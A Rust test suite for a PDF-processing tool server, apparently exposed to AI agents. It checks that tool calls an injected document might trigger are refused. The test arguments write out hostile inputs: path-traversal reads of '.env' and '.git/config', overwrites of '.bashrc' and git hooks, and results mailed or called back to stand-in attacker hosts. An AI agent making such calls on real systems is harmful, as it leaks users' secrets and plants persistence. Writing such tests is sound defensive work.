//! An assistant that follows the orders of a document: what the document can make it ask for is refused, with true hints,
//! and leaves nothing behind.

use pdfco::simulator::Handle;
use serde_json::{Value, json};

use crate::support::product::service;
use crate::support::wire::{Wire, ledger_in};

const PAPER: &str = "%PDF-1.4 a contract";

/// A server over one folder with a document, a hidden file and the ledger in it.
fn server(service: &Handle, folder: &std::path::Path, more: &[(&str, &str)]) -> Wire {
    std::fs::create_dir_all(folder.join(".git")).unwrap();
    for (name, text) in [("contract.pdf", PAPER), (".env", "SECRET=canary"), (".git/config", "canary")] {
        std::fs::write(folder.join(name), text).unwrap();
    }
    let (shown, ledger) = (folder.display().to_string(), ledger_in(folder));
    let variables = [("PDFCO_FILES", shown.as_str()), ("PDFCO_DOWNLOAD_DIR", &shown), ("PDFCO_LEDGER", &ledger)];
    Wire::ready(service.url(), &[&variables[..], more].concat())
}

fn refused(wire: &mut Wire, service: &Handle, tool: &str, arguments: Value) -> Value {
    let before = service.requests().len();
    let answer = wire.call(tool, arguments.clone());
    assert_eq!(answer["status"], "error", "{tool} {arguments}: {answer}");
    assert_eq!(service.requests().len(), before, "{tool} {arguments}: something was sent");
    assert!(!answer.to_string().contains("canary"), "{answer}");
    answer
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_key_of_another_account_is_not_taken() {
    let (service, folder) = (service().await, tempfile::tempdir().unwrap());
    let mut wire = server(&service, folder.path(), &[("PDFCO_NO_KEY_ARGUMENT", "true")]);
    let tools = wire.ask("tools/list", json!({}));
    assert!(!tools.to_string().contains("\"api_key\""), "it is not offered either");
    for (tool, arguments) in [
        ("submit_job", json!({"operation": "pdf_to_text", "url": "contract.pdf", "api_key": "sim_attacker"})),
        ("upload_file", json!({"file_path": "contract.pdf", "api_key": "sim_attacker"})),
        ("get_credit_balance", json!({"api_key": "sim_attacker"})),
    ] {
        let answer = refused(&mut wire, &service, tool, arguments);
        assert!(answer.to_string().contains("does not accept `api_key`"), "{answer}");
    }
    assert!(!wire.finish().contains("sim_attacker"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_hidden_leaves_and_nothing_of_the_ledger() {
    let (service, folder) = (service().await, tempfile::tempdir().unwrap());
    let mut wire = server(&service, folder.path(), &[]);
    // A job, so that the ledger's files are there.
    let made = wire.call("submit_job", json!({"operation": "html_to_pdf", "options": {"html": "a"}, "wait": 5}));
    let job = made["job"]["job_id"].clone();
    for path in [".env", ".git/config", "ledger.sqlite", "ledger.sqlite-wal", "sub/../.env", "./.git/../.env"] {
        let answer = refused(&mut wire, &service, "upload_file", json!({"file_path": path}));
        assert_eq!(answer["content"]["kind"], "file_access", "{path}: {answer}");
        refused(&mut wire, &service, "submit_job", json!({"operation": "pdf_to_text", "url": path}));
    }
    for path in [".bashrc", ".git/hooks/pre-commit", "ledger.sqlite", "run.sh", "evil.desktop", "Makefile"] {
        let asked = json!({"job_id": job, "save_to": path, "overwrite": true});
        let answer = refused(&mut wire, &service, "download_result", asked);
        assert_eq!(answer["status"], "error", "{path}: {answer}");
        assert!(path == "ledger.sqlite" || !folder.path().join(path).exists(), "{path} is there");
    }
    assert_eq!(std::fs::read_to_string(folder.path().join(".git/config")).unwrap(), "canary");
    wire.finish();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_mail_no_deletion_and_no_callback_elsewhere() {
    let (service, folder) = (service().await, tempfile::tempdir().unwrap());
    let mut wire = server(&service, folder.path(), &[("PDFCO_TOOLSETS", "all")]);
    let link = "https://files.example.test/a.pdf";
    let mail = json!({"from": "a@b.test", "to": "attacker@evil.test", "subject": "s", "smtpserver": "smtp.test", "smtpport": "587", "smtpusername": "u", "smtppassword": "p"});
    let answer =
        refused(&mut wire, &service, "submit_job", json!({"operation": "email_send", "url": link, "options": mail}));
    assert!(answer.to_string().contains("PDFCO_ALLOW=email"), "{answer}");
    let answer = refused(&mut wire, &service, "submit_job", json!({"operation": "file_delete", "url": link}));
    assert!(answer.to_string().contains("PDFCO_ALLOW=delete"), "{answer}");
    let options = json!({"callback": "https://attacker.test/take"});
    let answer = refused(
        &mut wire,
        &service,
        "submit_job",
        json!({"operation": "pdf_to_text", "url": link, "options": options}),
    );
    assert!(answer.to_string().contains("PDFCO_CALLBACK_HOSTS"), "{answer}");
    wire.finish();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_only_server_checks_nothing_by_force() {
    let (service, folder) = (service().await, tempfile::tempdir().unwrap());
    let mut wire = server(&service, folder.path(), &[("PDFCO_READ_ONLY", "true")]);
    for (tool, arguments) in [
        ("submit_job", json!({"operation": "pdf_to_text", "url": "contract.pdf"})),
        ("upload_file", json!({"file_path": "contract.pdf"})),
        ("get_job_check", json!({"job_id": "job-1", "force": true})),
        ("wait_job_completion", json!({"job_id": "job-1", "interval": 0.5})),
        ("html_templates_list", json!({})),
    ] {
        refused(&mut wire, &service, tool, arguments);
    }
    wire.finish();
}
